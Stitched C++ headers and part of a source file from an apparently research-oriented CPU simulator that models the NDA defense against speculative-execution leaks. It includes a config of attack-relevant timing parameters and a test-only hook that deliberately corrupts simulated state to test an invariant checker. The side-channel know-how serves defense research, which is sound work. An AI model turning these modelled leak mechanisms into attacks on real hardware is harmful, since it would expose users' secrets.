     * simulation pays nothing.
     */
    void attachChecker(InvariantChecker *checker) override
    {
        checker_ = checker;
    }

    /**
     * Test/fuzz-only: deliberately violate one micro-architectural
     * invariant so the checker's detection logic can itself be tested
     * (a checker that cannot fail is untested). Returns false when the
     * requested corruption is not applicable to the current state
     * (e.g. no unsafe in-flight producer to wake early); callers
     * retry on a later cycle.
     */
    bool corruptForTest(FuzzCorruption kind);

    // --- introspection for tests & the ROB-snapshot example -------------
    const std::deque<DynInstPtr> &rob() const { return rob_; }
    PredictorUnit &predictor() { return bp_; }
    const SimConfig &config() const { return cfg_; }
    std::size_t fetchQueueSize() const { return fetchQueue_.size(); }

    /** Taint of the committed architectural register `r` (0 if no
     *  engine is attached). Test/debug introspection. */
    TaintWord archRegTaint(RegId r) const override;

    /**
     * Checkpoint the *committed* machine: architectural values come
     * from the commit rename map, the PC is the oldest un-committed
     * instruction's (in-flight work is deliberately excluded — it
     * re-executes after a restore). Cache tags and predictor tables
     * are captured as-is, wrong-path pollution included.
     */
    void saveCheckpoint(SimSnapshot &out) const override;

    /** Restore into a freshly constructed core only (asserted). */
    void restoreCheckpoint(const SimSnapshot &snap) override;

    /**
     * Install a callback invoked once per dynamic instruction when it
     * leaves the machine (at commit, or when squashed), with the
     * current cycle. Used by debug::PipeTrace.
     */
    void
    setRetireHook(std::function<void(const DynInst &, Cycle)> hook)
    {
        retireHook_ = std::move(hook);
    }

  private:
    // --- pipeline stages -------------------------------------------------
    void commitStage();
    void completeStage();
    void issueStage();
    void dispatchStage();
    void fetchStage();

    // --- helpers ----------------------------------------------------------
    bool tryIssue(const DynInstPtr &inst, unsigned &mem_issued);
    void executeInst(const DynInstPtr &inst, unsigned &mem_issued,
                     bool &rejected);
    bool executeLoad(const DynInstPtr &inst);
    void resolveBranch(const DynInstPtr &inst);
    void scheduleCompletion(const DynInstPtr &inst, unsigned latency);

    /** Broadcast the tag: mark dest ready so dependents can wake. */
    void broadcast(const DynInstPtr &inst);
    /** Queue a newly-safe completed instruction for broadcast. */
    void maybeQueueBroadcast(const DynInstPtr &inst);

    /** Squash all instructions with seq > `keep_seq`; redirect fetch.
     *  `cause` attributes the flush (perf counter + per-inst tag). */
    void squashAfter(InstSeqNum keep_seq, Addr redirect_pc,
                     SquashCause cause);
    void raiseFault(const DynInstPtr &inst);

    /** Record unsafe-residency once the last unsafe bit clears. */
    void noteUnsafeCleared(DynInst &inst);

    /** Remove a resolved/squashed branch from the unresolved list. */
    void branchResolved(InstSeqNum seq);
    /**
     * Paper §5.1: when the eldest unresolved branch changes, clear
     * `unsafe` on older ROB entries and queue their deferred
     * broadcasts; also exposes InvisiSpec-Spectre shadow loads.
     */
    void ndaClearWalk();

    bool hasOlderUnresolvedBranch(InstSeqNum seq) const;
    bool hasOlderWrmsr(InstSeqNum seq) const;

    RegVal srcValue(PhysRegId r) const
    {
        return r == kInvalidPhysReg ? 0 : regs_.value(r);
    }

    void classifyCycle(unsigned committed_now);

    // --- configuration / program -----------------------------------------
    const Program prog_;
    SimConfig cfg_;

    /** In-flight instruction allocator. Declared before every
     *  container that holds DynInstPtr so it is destroyed last. */
    DynInstPool pool_;

    // --- architectural + micro-architectural state ------------------------
    MemoryMap mem_;
    MemHierarchy hier_;
    PredictorUnit bp_;
    PhysRegFile regs_;
    RenameMap rmap_;
    IssueQueue iq_;
    Lsq lsq_;
    RegVal msrs_[kNumMsrRegs] = {};

    std::deque<DynInstPtr> rob_;
    /** Committed arch reg -> phys reg holding the committed value. */
    PhysRegId commitMap_[kNumArchRegs] = {};

    // --- front end ---------------------------------------------------------
    std::deque<DynInstPtr> fetchQueue_;
    Addr fetchPc_ = 0;
    bool fetchBlocked_ = false;
    Cycle icacheStallUntil_ = 0;
    Addr lastFetchLine_ = ~Addr{0};

    // --- events -------------------------------------------------------------
    std::multimap<Cycle, DynInstPtr> completionEvents_;

    // --- NDA / ordering bookkeeping ----------------------------------------
    std::deque<InstSeqNum> unresolvedBranches_;
    std::deque<DynInstPtr> pendingBcast_;
    std::deque<InstSeqNum> fencesInFlight_;
    std::deque<InstSeqNum> wrmsrInFlight_;

    // --- misc state -----------------------------------------------------------
    InstSeqNum nextSeq_ = 0;
    Cycle cycle_ = 0;
    std::uint64_t commitTarget_ = ~std::uint64_t{0};
    std::uint64_t committed_ = 0;
    bool halted_ = false;
    bool specDisabled_ = false; ///< inside a specoff window (SS8)
    int outstandingMisses_ = 0;
    unsigned completionsThisCycle_ = 0;
    Cycle lastCommitCycle_ = 0;
    std::function<void(const DynInst &, Cycle)> retireHook_;
    TaintEngine *dift_ = nullptr; ///< leakage oracle, usually absent
    InvariantChecker *checker_ = nullptr; ///< fuzz invariant checker

    PerfCounters counters_;

    /** The checker reads every private structure it validates. */
    friend class InvariantChecker;
};

} // namespace nda

#endif // NDASIM_CORE_OOO_CORE_HH
