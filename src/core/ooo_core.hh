/**
 * @file
 * Cycle-level out-of-order core with genuine wrong-path execution,
 * physical-register renaming, an issue queue woken by tag broadcast,
 * a load/store queue with speculative store bypass, and the NDA
 * safety unit (paper §5) plus the InvisiSpec comparison model.
 *
 * Stage order within a cycle (commit-first so broadcasts in cycle C
 * allow dependent issue in cycle C):
 *   commit -> complete/broadcast -> issue -> dispatch/rename -> fetch
 */

#ifndef NDASIM_CORE_OOO_CORE_HH
#define NDASIM_CORE_OOO_CORE_HH

#include <deque>
#include <functional>
#include <map>
#include <vector>

#include "branch/predictor_unit.hh"
#include "core/core_base.hh"
#include "core/core_config.hh"
#include "core/dyn_inst_pool.hh"
#include "core/issue_queue.hh"
#include "core/lsq.hh"
#include "core/phys_reg_file.hh"
#include "core/rename_map.hh"
#include "isa/program.hh"
#include "obs/hotspot_profiler.hh"

namespace nda {

class InvariantChecker;
/** Deliberate state corruptions (defined in fuzz/invariant_checker.hh). */
enum class FuzzCorruption : std::uint8_t;

/** The out-of-order core model. */
class OooCore : public CoreBase
{
  public:
    /** The core keeps its own copy of `prog`. */
    OooCore(Program prog, const SimConfig &cfg);

    void tick() override;
    void run(std::uint64_t max_insts, Cycle max_cycles) override;

    bool halted() const override { return halted_; }
    Cycle cycle() const override { return cycle_; }
    std::uint64_t committedInsts() const override { return committed_; }

    RegVal archReg(RegId r) const override;
    RegVal msr(unsigned idx) const override { return msrs_[idx]; }

    MemoryMap &mem() override { return mem_; }
    const MemoryMap &mem() const override { return mem_; }
    MemHierarchy &hierarchy() override { return hier_; }

    PerfCounters &counters() override { return counters_; }
    const PerfCounters &counters() const override { return counters_; }
    void resetCounters() override { counters_.reset(); }

    /** Perf + hierarchy (base) plus predictor, IQ, LSQ, regfile. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) override;

    /**
     * Attach the DIFT leakage oracle (dift/taint_engine.hh). Every
     * hook site is guarded by a null check, so detached simulation
     * pays nothing.
     */
    void attachDift(TaintEngine *engine) override;

    /**
     * Attach the per-cycle invariant checker (fuzz/). Like the DIFT
     * engine, the tick hook is guarded by a null check, so detached
     * simulation pays nothing.
     */
    void attachChecker(InvariantChecker *checker) override
    {
        checker_ = checker;
    }

    /**
     * Attach the causal CPI-stack profiler. Per cycle the commit
     * stage owns `commitWidth` slots; each one is attributed — to the
     * retiring instruction, or to the root cause found by walking the
     * dependence chain from the blocked ROB head (obs/cpi_stack.hh).
     * All hooks are null-guarded; detached simulation pays nothing.
     */
    void attachCpiStack(CpiStackProfiler *p) override
    {
        cpiStack_ = p;
    }

    /**
     * Test/fuzz-only: deliberately violate one micro-architectural
     * invariant so the checker's detection logic can itself be tested
     * (a checker that cannot fail is untested). Returns false when the
     * requested corruption is not applicable to the current state
     * (e.g. no unsafe in-flight producer to wake early); callers
     * retry on a later cycle.
     */
    bool corruptForTest(FuzzCorruption kind);

    // --- introspection for tests & the ROB-snapshot example -------------
    const std::deque<DynInstPtr> &rob() const { return rob_; }
    PredictorUnit &predictor() { return bp_; }
    const SimConfig &config() const { return cfg_; }
    std::size_t fetchQueueSize() const { return fetchQueue_.size(); }

    /** Taint of the committed architectural register `r` (0 if no
     *  engine is attached). Test/debug introspection. */
    TaintWord archRegTaint(RegId r) const override;

    /**
     * Checkpoint the *committed* machine: architectural values come
     * from the commit rename map, the PC is the oldest un-committed
     * instruction's (in-flight work is deliberately excluded — it
     * re-executes after a restore). Cache tags and predictor tables
     * are captured as-is, wrong-path pollution included.
     */
    void saveCheckpoint(SimSnapshot &out) const override;

    /** Restore into a freshly constructed core only (asserted). */
    void restoreCheckpoint(const SimSnapshot &snap) override;

    /**
     * Install a callback invoked once per dynamic instruction when it
     * leaves the machine (at commit, or when squashed), with the
     * current cycle. Used by debug::PipeTrace.
     */
    void
    setRetireHook(std::function<void(const DynInst &, Cycle)> hook)
    {
        retireHook_ = std::move(hook);
    }

  private:
    // --- pipeline stages -------------------------------------------------
    void commitStage();
    void completeStage();
    void issueStage();
    void dispatchStage();
    void fetchStage();

    // --- helpers ----------------------------------------------------------
    bool tryIssue(const DynInstPtr &inst, unsigned &mem_issued);
    void executeInst(const DynInstPtr &inst, unsigned &mem_issued,
                     bool &rejected);
    bool executeLoad(const DynInstPtr &inst);
    void resolveBranch(const DynInstPtr &inst);
    void scheduleCompletion(const DynInstPtr &inst, unsigned latency);

    /** Broadcast the tag: mark dest ready so dependents can wake. */
    void broadcast(const DynInstPtr &inst);
    /** Queue a newly-safe completed instruction for broadcast. */
    void maybeQueueBroadcast(const DynInstPtr &inst);

    /** Squash all instructions with seq > `keep_seq`; redirect fetch.
     *  `cause` attributes the flush (perf counter + per-inst tag) and
     *  `cause_pc` is the instruction that forced it (CPI stack). */
    void squashAfter(InstSeqNum keep_seq, Addr redirect_pc,
                     SquashCause cause, Addr cause_pc);
    void raiseFault(const DynInstPtr &inst);

    /** Record unsafe-residency once the last unsafe bit clears. */
    void noteUnsafeCleared(DynInst &inst);

    /** Remove a resolved/squashed branch from the unresolved list. */
    void branchResolved(InstSeqNum seq);
    /**
     * Paper §5.1: when the eldest unresolved branch changes, clear
     * `unsafe` on older ROB entries and queue their deferred
     * broadcasts; also exposes InvisiSpec-Spectre shadow loads.
     */
    void ndaClearWalk();

    bool hasOlderUnresolvedBranch(InstSeqNum seq) const;
    bool hasOlderWrmsr(InstSeqNum seq) const;

    // --- CPI-stack attribution (all dead code unless cpiStack_ set) -------
    /** Why the commit loop stopped retiring this cycle. */
    enum class CommitBreak : std::uint8_t {
        kNone = 0,      ///< loop ended for a non-head reason
        kNotExecuted,   ///< head has not completed execution
        kFaultWait,     ///< head waiting out trap-delivery latency
        kValidate,      ///< IS-Future validation round trip
        kStoreData,     ///< store data register not broadcast yet
        kStoreMshrFull, ///< store drain rejected by a full MSHR file
    };

    /** Why dispatch stopped renaming this cycle. */
    enum class DispatchBlock : std::uint8_t {
        kNone = 0,      ///< used the full width (or nothing arrived)
        kFetchEmpty,    ///< fetch queue ran dry
        kFrontendDelay, ///< head still in the fetch-to-dispatch pipe
        kRobFull,       ///< ROB at capacity
        kIqFull,        ///< issue queue at capacity
        kLqFull,        ///< load queue at capacity
        kSqFull,        ///< store queue at capacity
        kRegsFull,      ///< physical register file exhausted
    };

    /** One slot attribution: root cause + the causal instruction. */
    struct SlotAttr {
        StallCause cause;
        Addr pc;
    };

    /** Attribute this cycle's lost commit slots (commit slots are
     *  charged inline as instructions retire). */
    void profileCycle(unsigned ncommit);
    /** Root cause of the stalled ROB head's occupied slots. */
    SlotAttr headCause();
    /** Cause of slots beyond ROB occupancy (squash refetch, frontend
     *  starvation, or a dispatch capacity limit from last cycle). */
    SlotAttr emptyCause() const;
    /** Walk the dependence chain from `inst` to its root blocker. */
    SlotAttr chaseInst(const DynInst *inst, int depth);
    /** Attribute a wait on not-ready phys reg `r` (store data, or a
     *  chased instruction's blocked source). */
    SlotAttr chaseBlockedReg(PhysRegId r, Addr consumer_pc, int depth);
    /** Rebuild producerOf_ from the ROB and the deferred-broadcast
     *  queue (committed NDA producers in the retire-wake window). */
    void buildProducerMap();

    RegVal srcValue(PhysRegId r) const
    {
        return r == kInvalidPhysReg ? 0 : regs_.value(r);
    }

    void classifyCycle(unsigned committed_now);

    // --- configuration / program -----------------------------------------
    const Program prog_;
    SimConfig cfg_;

    /** In-flight instruction allocator. Declared before every
     *  container that holds DynInstPtr so it is destroyed last. */
    DynInstPool pool_;

    // --- architectural + micro-architectural state ------------------------
    MemoryMap mem_;
    MemHierarchy hier_;
    PredictorUnit bp_;
    PhysRegFile regs_;
    RenameMap rmap_;
    IssueQueue iq_;
    Lsq lsq_;
    RegVal msrs_[kNumMsrRegs] = {};

    std::deque<DynInstPtr> rob_;
    /** Committed arch reg -> phys reg holding the committed value. */
    PhysRegId commitMap_[kNumArchRegs] = {};

    // --- front end ---------------------------------------------------------
    std::deque<DynInstPtr> fetchQueue_;
    Addr fetchPc_ = 0;
    bool fetchBlocked_ = false;
    Cycle icacheStallUntil_ = 0;
    Addr lastFetchLine_ = ~Addr{0};

    // --- events -------------------------------------------------------------
    std::multimap<Cycle, DynInstPtr> completionEvents_;

    // --- NDA / ordering bookkeeping ----------------------------------------
    std::deque<InstSeqNum> unresolvedBranches_;
    std::deque<DynInstPtr> pendingBcast_;
    std::deque<InstSeqNum> fencesInFlight_;
    std::deque<InstSeqNum> wrmsrInFlight_;

    // --- misc state -----------------------------------------------------------
    InstSeqNum nextSeq_ = 0;
    Cycle cycle_ = 0;
    std::uint64_t commitTarget_ = ~std::uint64_t{0};
    std::uint64_t committed_ = 0;
    bool halted_ = false;
    bool specDisabled_ = false; ///< inside a specoff window (SS8)
    int outstandingMisses_ = 0;
    unsigned completionsThisCycle_ = 0;
    Cycle lastCommitCycle_ = 0;
    std::function<void(const DynInst &, Cycle)> retireHook_;
    TaintEngine *dift_ = nullptr; ///< leakage oracle, usually absent
    InvariantChecker *checker_ = nullptr; ///< fuzz invariant checker

    // --- CPI-stack attribution state ---------------------------------------
    CpiStackProfiler *cpiStack_ = nullptr; ///< usually absent
    CommitBreak commitBreak_ = CommitBreak::kNone;
    DispatchBlock dispatchBlock_ = DispatchBlock::kNone;
    bool refetchPending_ = false; ///< squashed; refill not dispatched
    SquashCause lastSquashCause_ = SquashCause::kNone;
    Addr lastSquashPc_ = 0;       ///< pc of the squashing instruction
    /** Phys reg -> in-flight producer that has not broadcast. Rebuilt
     *  lazily per profiled stall cycle; never read otherwise. */
    std::vector<const DynInst *> producerOf_;

    PerfCounters counters_;

    /** The checker reads every private structure it validates. */
    friend class InvariantChecker;
};

} // namespace nda

#endif // NDASIM_CORE_OOO_CORE_HH
