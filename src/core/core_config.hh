/**
 * @file
 * Structural parameters of the simulated cores and the combined
 * simulation configuration (paper Table 3 defaults).
 */

#ifndef NDASIM_CORE_CORE_CONFIG_HH
#define NDASIM_CORE_CORE_CONFIG_HH

#include <string>

#include "branch/predictor_unit.hh"
#include "mem/hierarchy.hh"
#include "nda/policy.hh"

namespace nda {

/** SMT fetch arbitration between hardware threads. */
enum class SmtFetchPolicy : std::uint8_t {
    kRoundRobin = 0, ///< rotate fetch priority by cycle parity
    kIcount,         ///< fewest in-flight instructions fetches first
};

/** Out-of-order core structural parameters (Table 3). */
struct CoreParams {
    unsigned fetchWidth = 8;
    unsigned dispatchWidth = 8;
    unsigned issueWidth = 8;
    unsigned commitWidth = 8;
    unsigned robEntries = 192;
    unsigned iqEntries = 60;
    unsigned lqEntries = 32;
    unsigned sqEntries = 32;
    unsigned numPhysRegs = 320;
    /** Fetch-to-dispatch pipeline depth in cycles. Sized so a branch
     *  mispredict costs ~16 cycles, matching the paper's measured BTB
     *  miss penalty (Fig 5) on its Haswell-like configuration. */
    unsigned frontendDelay = 12;
    /** Fetch buffer capacity in micro-ops. */
    unsigned fetchQueueEntries = 48;
    /** Data accesses that may begin per cycle (Table 3: 1 port). */
    unsigned memPorts = 1;
    /**
     * Cycles between a faulting instruction reaching the ROB head and
     * the pipeline flush (trap delivery latency). During this window
     * dependents of the faulting instruction keep executing — the
     * race Meltdown-class chosen-code attacks exploit (paper §3.1).
     */
    unsigned faultLatency = 16;
    /**
     * Cycles for a retirement-time wake-up (NDA load restriction's
     * broadcast-at-head, paper §5.3) to reach the issue queue. The
     * commit stage has no bypass path into the scheduler, so this is
     * several cycles on real designs (gem5 O3's commit-to-IEW path).
     */
    unsigned retireWakeDelay = 3;
    /**
     * Hardware thread contexts sharing this core. 1 is today's
     * single-context core (bit-identical to the pre-SMT pipeline);
     * 2 adds a second architectural context with its own rename map,
     * ROB partition, and fetch stream competing for the shared issue
     * queue, LSQ, functional units, and MSHR files.
     */
    unsigned smtThreads = 1;
    /** SMT fetch arbitration policy (ignored at smtThreads == 1). */
    SmtFetchPolicy smtFetchPolicy = SmtFetchPolicy::kRoundRobin;
    /**
     * Multiply/divide issues allowed per cycle across all threads
     * (0 = unlimited, the legacy behavior). A finite count creates
     * the execution-port contention a SMoTherSpectre-style co-resident
     * attacker observes.
     */
    unsigned mulDivPorts = 0;
    PredictorParams predictor;
};

/** In-order (TimingSimpleCPU-like) core parameters. */
struct InOrderParams {
    /**
     * When true, charge an i-cache access only on line crossings
     * (a kinder fetch-buffer model). The default (false) matches
     * gem5's TimingSimpleCPU — the paper's in-order baseline — which
     * performs a timed i-cache access for every instruction.
     */
    bool lineBuffer = false;
};

/** A complete simulated-machine configuration. */
struct SimConfig {
    std::string name = "ooo";
    bool inOrder = false;
    CoreParams core;
    InOrderParams inOrderParams;
    HierarchyParams memory;
    SecurityConfig security;
    /**
     * Per-thread NDA policy split. When set, hardware thread 1 runs
     * under `security1` instead of `security` — the co-residency
     * threat model's asymmetric case: a protected victim (thread 0)
     * sharing the core with an unprotected attacker (thread 1).
     */
    bool perThreadSecurity = false;
    SecurityConfig security1;

    /** The security policy governing hardware thread `tid`. */
    const SecurityConfig &
    secFor(unsigned tid) const
    {
        return perThreadSecurity && tid > 0 ? security1 : security;
    }
};

/** Render the key parameters as a Table-3-style listing. */
std::string configTable(const SimConfig &cfg);

} // namespace nda

#endif // NDASIM_CORE_CORE_CONFIG_HH
