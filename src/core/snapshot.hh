/**
 * @file
 * Whole-machine warming checkpoint: the architectural state plus the
 * structural (squash-surviving) micro-architectural state every core
 * model can be seeded with — cache tags/LRU and predictor tables.
 *
 * Built once per (workload, sample) by fast-forwarding the functional
 * interpreter with warming attached (SMARTS, paper §6.1), then
 * restored into each profile's core (CoreBase::restoreCheckpoint)
 * instead of re-warming per profile. A snapshot records the geometry
 * it was built with; restoring requires structural compatibility
 * (structurallyCompatible), and the harness falls back to building a
 * per-window checkpoint when a config's geometry differs — so sweeps
 * that vary cache or predictor geometry still work, just without
 * sharing.
 */

#ifndef NDASIM_CORE_SNAPSHOT_HH
#define NDASIM_CORE_SNAPSHOT_HH

#include "branch/predictor_unit.hh"
#include "core/arch_state.hh"
#include "mem/hierarchy.hh"

namespace nda {

struct Program;
struct SimConfig;

/** Architectural + structural-warming state of one machine. */
struct SimSnapshot {
    ArchState arch;

    /**
     * Architectural state of SMT hardware threads 1..N-1, in thread
     * order. Empty for a single-thread machine — and serialized only
     * when non-empty, so smt=1 checkpoint files are byte-identical to
     * the pre-SMT schema. The entries' `mem` maps are empty: memory
     * is shared and lives in `arch.mem`.
     */
    std::vector<ArchState> extraThreads;

    bool hasMem = false;
    MemHierarchy::Snapshot mem;
    HierarchyParams memParams;       ///< geometry the tags assume

    bool hasPredictor = false;
    PredictorUnit::Snapshot predictor;
    PredictorParams bpParams;        ///< geometry the tables assume

    /**
     * True iff every structural snapshot carried here can be restored
     * into a machine built from `cfg`: cache geometry (size, ways,
     * line) and predictor geometry (table/history bits, BTB shape,
     * RAS depth) must match. Latencies are irrelevant — they never
     * influence which tags/counters warming produces.
     */
    bool structurallyCompatible(const SimConfig &cfg) const;

    /**
     * Bit-identity across the whole machine image: architectural
     * state, warming images (tags/LRU/counters, predictor tables),
     * and the geometry they assume. This is the referee the lockstep
     * test uses to hold the threaded interpreter to step().
     */
    bool operator==(const SimSnapshot &other) const;
};

class TaintEngine;
struct WarmingWork;

/**
 * Fast-forward `ff_insts` instructions of `prog` on the interpreter
 * with functional warming into structures of the given geometry, and
 * return the resulting checkpoint. Deterministic: same program,
 * geometry, and instruction count always yield the same snapshot.
 *
 * `dift`, if non-null, is attached for the fast-forward so the
 * checkpoint carries architectural taint. `warm_work`, if non-null,
 * receives the functional-warming work the fast-forward performed
 * (added to, not overwritten — callers aggregate across builds).
 */
SimSnapshot buildWarmCheckpoint(const Program &prog,
                                const HierarchyParams &mem_params,
                                const PredictorParams &bp_params,
                                std::uint64_t ff_insts,
                                TaintEngine *dift = nullptr,
                                WarmingWork *warm_work = nullptr);

/**
 * Extend-from-snapshot mode of the same recipe: resume the predecoded
 * interpreter (with functional warming, and `dift` if non-null) from
 * `base` and run until `target_insts` total instructions have
 * retired, then snapshot again.
 *
 * The chaining invariant — enforced by tests/test_ckpt.cc — is that
 * extension composes exactly: for any split k,
 *
 *   extend(build(prog, k), n) == build(prog, n)        (n > k)
 *
 * bit-for-bit under SimSnapshot::operator==. This is what turns
 * `--fastforward` into a *stride*: a W-workload grid pays one
 * fast-forward chain per workload, with checkpoint k+1 built from
 * checkpoint k instead of from the program entry.
 *
 * `base` must carry warming state (hasMem && hasPredictor) and
 * `target_insts` must be >= the snapshot's instruction count; both
 * are fatal misuses, not recoverable conditions.
 */
SimSnapshot extendWarmCheckpoint(const Program &prog,
                                 const SimSnapshot &base,
                                 std::uint64_t target_insts,
                                 TaintEngine *dift = nullptr,
                                 WarmingWork *warm_work = nullptr);

} // namespace nda

#endif // NDASIM_CORE_SNAPSHOT_HH
