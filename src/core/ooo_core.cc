#include "core/ooo_core.hh"

#include <algorithm>
#include <string>

#include "common/log.hh"
#include "core/snapshot.hh"
#include "dift/taint_engine.hh"
#include "fuzz/invariant_checker.hh"
#include "isa/interpreter.hh"
#include "obs/cpi_stack.hh"

namespace nda {

OooCore::OooCore(Program prog, const SimConfig &cfg)
    : prog_(std::move(prog)),
      cfg_(cfg),
      numThreads_(std::max(1u, cfg.core.smtThreads)),
      hier_(cfg.memory),
      bp_(cfg.core.predictor),
      regs_(cfg.core.numPhysRegs),
      iq_(cfg.core.iqEntries),
      lsq_(cfg.core.lqEntries, cfg.core.sqEntries,
           std::max(1u, cfg.core.smtThreads)),
      threads_(std::max(1u, cfg.core.smtThreads)),
      commitsThisCycle_(std::max(1u, cfg.core.smtThreads), 0)
{
    NDA_ASSERT(cfg.core.numPhysRegs >=
                   numThreads_ * kNumArchRegs + cfg.core.robEntries,
               "need at least arch-per-thread + ROB physical registers");
    loadDataSegments(prog_, mem_);
    regs_.reset(kNumArchRegs, numThreads_);
    for (unsigned t = 0; t < numThreads_; ++t) {
        ThreadContext &tc = threads_[t];
        const PhysRegId base =
            static_cast<PhysRegId>(t * kNumArchRegs);
        tc.rmap.reset(base);
        for (unsigned r = 0; r < kNumArchRegs; ++r) {
            regs_.setValue(static_cast<PhysRegId>(base + r),
                           prog_.initialRegs[r]);
            tc.commitMap[r] = static_cast<PhysRegId>(base + r);
        }
        for (int i = 0; i < kNumMsrRegs; ++i)
            tc.msrs[i] = prog_.initialMsrs[i];
        // Thread 0 runs the program entry; co-resident contexts start
        // at the SMT entry when the program provides one.
        tc.fetchPc = t == 0 || prog_.smtEntry == ~Addr{0}
                         ? prog_.entry
                         : prog_.smtEntry;
    }
    if (numThreads_ > 1)
        threadCounters_.resize(numThreads_);
}

RegVal
OooCore::archReg(RegId r) const
{
    return regs_.value(threads_[0].commitMap[r]);
}

void
OooCore::attachDift(TaintEngine *engine)
{
    dift_ = engine;
    if (dift_)
        dift_->bindPhysRegs(cfg_.core.numPhysRegs);
}

TaintWord
OooCore::archRegTaint(RegId r) const
{
    return dift_ ? dift_->regTaint(threads_[0].commitMap[r]) : 0;
}

void
OooCore::resetCounters()
{
    counters_.reset();
    for (PerfCounters &c : threadCounters_)
        c.reset();
}

void
OooCore::saveCheckpoint(SimSnapshot &out) const
{
    out = SimSnapshot{};
    const ThreadContext &t0 = threads_[0];
    ArchState &arch = out.arch;
    for (unsigned r = 0; r < kNumArchRegs; ++r)
        arch.regs[r] = regs_.value(t0.commitMap[r]);
    for (int i = 0; i < kNumMsrRegs; ++i)
        arch.msrs[i] = t0.msrs[i];
    // The architectural PC is the oldest instruction that has not yet
    // committed; with an idle pipeline it is simply the fetch PC.
    arch.pc = !t0.rob.empty()         ? t0.rob.front()->pc
              : !t0.fetchQueue.empty() ? t0.fetchQueue.front()->pc
                                       : t0.fetchPc;
    arch.halted = t0.halted;
    arch.instCount = committed_;
    arch.faultCount = counters_.faults;
    arch.lastFetchLine = t0.lastFetchLine;
    arch.mem = mem_;
    if (dift_) {
        arch.hasTaint = true;
        for (unsigned r = 0; r < kNumArchRegs; ++r)
            arch.regTaint[r] = dift_->regTaint(t0.commitMap[r]);
        for (unsigned i = 0; i < kNumMsrRegs; ++i)
            arch.msrTaint[i] = dift_->msrTaint(i);
        arch.memTaint = dift_->memTaintMap();
    }

    // Hardware threads beyond 0: architectural view only. Memory is
    // shared and already captured above, so their mem maps stay empty.
    for (unsigned t = 1; t < numThreads_; ++t) {
        const ThreadContext &tc = threads_[t];
        ArchState extra{};
        for (unsigned r = 0; r < kNumArchRegs; ++r)
            extra.regs[r] = regs_.value(tc.commitMap[r]);
        for (int i = 0; i < kNumMsrRegs; ++i)
            extra.msrs[i] = tc.msrs[i];
        extra.pc = !tc.rob.empty()         ? tc.rob.front()->pc
                   : !tc.fetchQueue.empty() ? tc.fetchQueue.front()->pc
                                            : tc.fetchPc;
        extra.halted = tc.halted;
        extra.lastFetchLine = tc.lastFetchLine;
        if (dift_) {
            extra.hasTaint = true;
            for (unsigned r = 0; r < kNumArchRegs; ++r)
                extra.regTaint[r] = dift_->regTaint(tc.commitMap[r]);
        }
        out.extraThreads.push_back(std::move(extra));
    }

    out.hasMem = true;
    out.mem = hier_.save();
    out.memParams = cfg_.memory;
    out.hasPredictor = true;
    out.predictor = bp_.save();
    out.bpParams = cfg_.core.predictor;
}

void
OooCore::restoreCheckpoint(const SimSnapshot &snap)
{
    NDA_ASSERT(cycle_ == 0 && committed_ == 0 && threads_[0].rob.empty(),
               "checkpoints restore into freshly constructed cores");
    ThreadContext &t0 = threads_[0];
    const ArchState &arch = snap.arch;
    for (unsigned r = 0; r < kNumArchRegs; ++r)
        regs_.setValue(t0.commitMap[r], arch.regs[r]);
    for (int i = 0; i < kNumMsrRegs; ++i)
        t0.msrs[i] = arch.msrs[i];
    t0.fetchPc = arch.pc;
    t0.halted = arch.halted;
    committed_ = arch.instCount;
    counters_.faults = arch.faultCount;
    t0.lastFetchLine = arch.lastFetchLine;
    mem_ = arch.mem;
    if (dift_ && arch.hasTaint) {
        for (unsigned r = 0; r < kNumArchRegs; ++r)
            dift_->setRegTaint(t0.commitMap[r], arch.regTaint[r]);
        for (unsigned i = 0; i < kNumMsrRegs; ++i)
            dift_->setMsrTaint(i, arch.msrTaint[i]);
        dift_->setMemTaintMap(arch.memTaint);
    }
    // extraThreads seed matching hardware contexts; an smt=1 snapshot
    // (no extras) leaves threads 1..N-1 at their constructor state.
    const std::size_t nextra = std::min<std::size_t>(
        snap.extraThreads.size(), numThreads_ - 1);
    for (std::size_t i = 0; i < nextra; ++i) {
        ThreadContext &tc = threads_[i + 1];
        const ArchState &extra = snap.extraThreads[i];
        for (unsigned r = 0; r < kNumArchRegs; ++r)
            regs_.setValue(tc.commitMap[r], extra.regs[r]);
        for (int m = 0; m < kNumMsrRegs; ++m)
            tc.msrs[m] = extra.msrs[m];
        tc.fetchPc = extra.pc;
        tc.halted = extra.halted;
        tc.lastFetchLine = extra.lastFetchLine;
        if (dift_ && extra.hasTaint) {
            for (unsigned r = 0; r < kNumArchRegs; ++r)
                dift_->setRegTaint(tc.commitMap[r], extra.regTaint[r]);
        }
    }
    halted_ = true;
    for (const ThreadContext &tc : threads_)
        halted_ = halted_ && tc.halted;
    if (snap.hasMem)
        hier_.restore(snap.mem);
    if (snap.hasPredictor)
        bp_.restore(snap.predictor);
}

bool
OooCore::corruptForTest(FuzzCorruption kind)
{
    ThreadContext &t0 = threads_[0];
    switch (kind) {
      case FuzzCorruption::kFreeListLeak:
        // Allocate a register nothing will ever reference or free.
        if (!regs_.hasFree())
            return false;
        regs_.alloc();
        return true;
      case FuzzCorruption::kDoubleFree:
        // A committed mapping lands on the free list while still
        // holding an architectural value.
        regs_.free(t0.commitMap[0]);
        return true;
      case FuzzCorruption::kEarlyWakeup:
        // Wake dependents of an in-flight producer NDA still holds
        // unsafe — exactly the leak the deferred broadcast prevents.
        for (const ThreadContext &tc : threads_) {
            for (const DynInstPtr &inst : tc.rob) {
                if (inst->dest != kInvalidPhysReg && inst->isUnsafe() &&
                    !inst->broadcasted) {
                    regs_.setReady(inst->dest);
                    return true;
                }
            }
        }
        return false;
      case FuzzCorruption::kRenameCorrupt:
        // Point r0's speculative mapping at r1's: younger consumers
        // of r0 would silently read r1's value.
        if (t0.rmap.lookup(0) == t0.rmap.lookup(1))
            return false;
        t0.rmap.rename(0, t0.rmap.lookup(1));
        return true;
      case FuzzCorruption::kRobReorder:
        if (t0.rob.size() < 2)
            return false;
        std::swap(t0.rob[0]->seq, t0.rob[1]->seq);
        return true;
      case FuzzCorruption::kCrossThreadRenameBleed:
        // SMT isolation breach: thread 0's speculative map aliases a
        // register thread 1 owns — t0 consumers would silently read
        // (and t0 squashes would free) the co-resident thread's state.
        if (numThreads_ < 2)
            return false;
        threads_[0].rmap.rename(0, threads_[1].rmap.lookup(0));
        return true;
      case FuzzCorruption::kMshrDupPrimary:
        // Two primary entries racing for one line: both would fill,
        // double-counting and corrupting LRU order.
        return hier_.mshrEnabled() &&
